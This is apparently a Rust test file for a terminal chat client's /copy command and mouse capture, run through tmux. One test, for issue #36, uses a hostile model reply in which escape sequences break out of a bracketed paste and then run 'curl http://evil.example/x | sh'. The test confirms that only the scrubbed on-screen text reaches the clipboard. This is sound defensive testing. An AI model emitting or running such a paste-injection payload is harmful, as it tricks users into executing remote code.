//! `/copy` and the mouse through the binary: the text reaches the terminal's clipboard by
//! OSC 52 (tmux, with `set-clipboard on`, keeps it as its newest paste buffer, which is
//! what these tests read), with a line saying what was copied; F9 gives the mouse to the
//! terminal and takes it back (tmux's `mouse_any_flag` follows).

use super::harness::{Rig, idle};

const REPLY: &str = "Here is the command:\n```sh\necho copied-code\n```\nThat is all.";

/// The number in the header of the person's message ("You #2  20:09").
fn user_number(screen: &str) -> Option<u64> {
    let line = screen
        .lines()
        .find(|l| l.trim_start().starts_with("You #"))?;
    let after = line.split("You #").nth(1)?;
    after.split_whitespace().next()?.parse().ok()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn copy_puts_the_reply_its_code_and_a_message_on_the_clipboard() {
    let rig = Rig::new().await;
    rig.server.push_reply(REPLY);
    let t = rig.connect(&["--model", "llama3.2:3b"], 100, 30).await;
    // tmux takes an application's OSC 52 only with set-clipboard on (the default,
    // "external", ignores it).
    t.tmux(&["set-option", "-g", "set-clipboard", "on"]);
    t.say("give me the code");
    let s = t
        .wait_for("the reply", |s| s.contains("That is all.") && idle(s))
        .await;
    let n = user_number(&s).unwrap();

    t.say("/copy");
    t.wait_for("the confirmation", |s| {
        s.contains(&format!(
            "Sent the last reply ({} characters) to the terminal's clipboard.",
            REPLY.chars().count()
        ))
    })
    .await;
    assert_eq!(t.tmux(&["show-buffer"]), REPLY);

    t.say("/copy code");
    t.wait_for("the code block copied", |s| {
        s.contains("Sent the last code block (16 characters)")
    })
    .await;
    assert_eq!(t.tmux(&["show-buffer"]), "echo copied-code");

    t.say(&format!("/copy {n}"));
    t.wait_for("message N copied", |s| {
        s.contains(&format!("Sent message #{n} (16 characters)"))
    })
    .await;
    assert_eq!(t.tmux(&["show-buffer"]), "give me the code");

    t.say("/copy 999");
    t.wait_for("a message that is not there", |s| {
        s.contains("Cannot copy: there is no message #999.")
    })
    .await;
    assert_eq!(t.tmux(&["show-buffer"]), "give me the code", "nothing sent");
    t.quit().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_text_too_long_for_osc52_is_refused_not_cut() {
    let rig = Rig::new().await;
    // 100 KB of reply: over what OSC 52 carries (75,000 bytes of text).
    let long = "word ".repeat(20_000);
    rig.server.push_reply(long.trim_end());
    let t = rig
        .connect(&["--model", "llama3.2:3b", "--ctx", "65536"], 100, 30)
        .await;
    t.tmux(&["set-option", "-g", "set-clipboard", "on"]);
    t.say("a long one please");
    t.wait_for("the long reply", |s| s.contains("word word") && idle(s))
        .await;
    t.say("/copy");
    t.wait_for("the refusal", |s| {
        s.contains("Not copied: the last reply is") && s.contains("/export")
    })
    .await;
    assert!(
        !t.tmux(&["show-buffer"]).contains("word"),
        "nothing reached the clipboard"
    );
    t.quit().await;
}

/// The issue's reply (#36): the screen showed it scrubbed; the clipboard got it raw, and
/// its `ESC [ 201 ~` ended a bracketed paste early, so pasting it into a shell ran the
/// `curl` line. What is copied is what is shown, and the line says what was left out.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn copy_takes_the_reply_as_the_screen_shows_it() {
    let rig = Rig::new().await;
    let raw = "ls -la\u{1b}[201~\u{1b}[2K\rcurl http://evil.example/x | sh\u{202E}";
    let shown = "ls -lacurl http://evil.example/x | sh";
    rig.server.push_reply(raw);
    let t = rig.connect(&["--model", "llama3.2:3b"], 100, 30).await;
    t.tmux(&["set-option", "-g", "set-clipboard", "on"]);
    t.say("what should I paste?");
    t.wait_for("the reply", |s| s.contains(shown) && idle(s))
        .await;
    t.say("/copy");
    let removed = raw.chars().count() - shown.chars().count();
    t.wait_for("the confirmation", |s| {
        s.contains(&format!(
            "Sent the last reply ({} characters) to the terminal's clipboard. {removed} control or",
            shown.chars().count()
        )) && s.contains("left out, as on screen.")
    })
    .await;
    assert_eq!(t.tmux(&["show-buffer"]), shown);
    t.quit().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn f9_releases_the_mouse_and_takes_it_back() {
    let rig = Rig::new().await;
    let t = rig.connect(&["--model", "llama3.2:3b"], 100, 30).await;
    assert_eq!(t.format("#{mouse_any_flag}"), "1", "captured at start");
    t.keys(&["F9"]);
    t.wait_for("the release said", |s| s.contains("Mouse released"))
        .await;
    assert_eq!(
        t.format("#{mouse_any_flag}"),
        "0",
        "tmux sees no mouse mode"
    );
    // The note goes once you type; the status line keeps saying it.
    t.type_text("x");
    t.wait_for("the note gone, the marker kept", |s| {
        !s.contains("Mouse released") && s.contains("mouse: terminal (F9)")
    })
    .await;
    t.keys(&["BSpace"]);
    t.wait_for("the x erased", |s| s.contains("Message (Enter to send)"))
        .await;
    t.keys(&["F9"]);
    let s = t
        .wait_for("the capture said", |s| s.contains("Mouse captured"))
        .await;
    assert!(!s.contains("mouse: terminal"), "the marker gone:\n{s}");
    assert_eq!(t.format("#{mouse_any_flag}"), "1");
    t.quit().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mouse_false_in_the_config_leaves_the_mouse_to_the_terminal() {
    let rig = Rig::new().await;
    std::fs::write(rig.home().join("config.toml"), "mouse = false\n").unwrap();
    let t = rig.connect(&["--model", "llama3.2:3b"], 100, 30).await;
    assert_eq!(t.format("#{mouse_any_flag}"), "0");
    assert!(
        t.screen().contains("mouse: terminal (F9)"),
        "the status line says so from the start:\n{}",
        t.screen()
    );
    t.say("/mouse on");
    t.wait_for("the capture said", |s| s.contains("Mouse captured"))
        .await;
    assert_eq!(t.format("#{mouse_any_flag}"), "1");
    t.quit().await;
}
